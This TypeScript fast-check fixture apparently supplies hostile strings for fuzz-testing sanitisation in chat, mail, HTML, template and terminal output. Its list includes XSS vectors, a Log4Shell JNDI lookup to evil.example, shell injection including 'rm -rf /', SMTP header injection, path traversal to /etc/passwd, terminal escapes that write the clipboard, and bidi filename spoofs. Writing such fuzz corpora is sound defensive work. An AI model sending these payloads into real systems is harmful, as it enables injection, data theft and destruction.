import fc from 'fast-check'

const esc = '\u001b'

/** Text that means harm somewhere: in a chat, a mail, a log, a terminal, a template, a shell or a prototype. */
export const nasty: readonly string[] = [
  // Slack
  '<!channel> <!here|all> <@U012345> <#C012345> <!subteam^S1> <https://evil.example|https://monitor.example>',
  '&lt;!channel&gt; *bold* _it_ ~no~ `code` > quote :rotating_light:',
  // Discord
  '@everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678> <t:1700000000:R> </cmd:1>',
  '[monitor](https://evil.example) **b** __u__ ~~s~~ ||spoiler|| ```js\ncode``` # title\n> quote\n- list discord.gg/evil',
  // Links without being asked
  'https://evil.example/a www.evil.example evil.example mailto:a@evil.example tel:+491 ftp://evil.example //evil.example',
  'javascript:alert(1) data:text/html,<script>alert(1)</script> file:///etc/passwd',
  // HTML and templates
  '<script>alert(1)</script><img src=x onerror=alert(1)><a href="https://evil.example">x</a></td></table><!--',
  '"><style>*{display:none}</style><base href=https://evil.example><meta http-equiv=refresh content=0>',
  `{{headline}} {{{text}}} {{#links}}x{{/links}} {{>partial}} {{=<% %>=}} \${7*7} #{7*7} <%= 7*7 %> {% raw %}`,
  `\${jndi:ldap://evil.example/a} %s %n %x $(touch evil) \`touch evil\` ; rm -rf / | cat & \\x00`,
  // Headers and SMTP
  'x\r\nBcc: victim@evil.example\r\nSubject: other\r\n\r\n<h1>body</h1>',
  'x\nReply-To: a@evil.example\n\n.\r\nMAIL FROM:<evil@evil.example>\r\n',
  '=?utf-8?q?=0D=0ABcc:_victim=40evil.example?= "; charset=x; boundary="',
  // Terminals
  `${esc}[2J${esc}[31mred${esc}]0;title\u0007${esc}]8;;https://evil.example${esc}\\click${esc}]8;;${esc}\\${esc}]52;c;ZXZpbA==\u0007`,
  '\u009b31m\u009d0;title\u009c\u0090q\u009c \u007f\b\b\b\b\r overwritten \u0000\u0005\u000e\t\v\f\u0085',
  // Direction and invisibility
  '\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e\u061c rtl \u202a\u202d\u202b\u2067\u2068',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f \u{e0041}\u{e007f} \ufff9\ufffa\ufffb',
  '\u2028line\u2029paragraph\u0085',
  // Half characters
  '\ud800 lone \udfff \udc00\ud800',
  `e${'\u0301'.repeat(5_000)}`,
  '👩‍👩‍👧‍👦'.repeat(500),
  '﷽'.repeat(400),
  // Names that JavaScript knows
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // Paths and lengths
  '../../../etc/passwd\u0000.json',
  '%00%0d%0aSet-Cookie:%20a=b',
  'long '.repeat(20_000),
  'x'.repeat(100_000),
  '&'.repeat(30_000),
  '\\'.repeat(30_000),
  '',
  ' ',
  '\u3164\u2800',
]

export const anyNasty = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...nasty) },
  {
    weight: 3,
    arbitrary: fc
      .array(fc.constantFrom(...nasty.filter(({ length }) => length < 300)), { minLength: 2, maxLength: 4 })
      .map((parts) => parts.join('')),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }) },
)

/** Everything that moves a cursor, begins a command of the terminal, or turns or hides what is beside it. */
export const terminalCommands = /[\p{Cc}--[\n]]|[\p{Cf}--[\u200b-\u200d]]|[\u2028\u2029\p{Cs}]/v
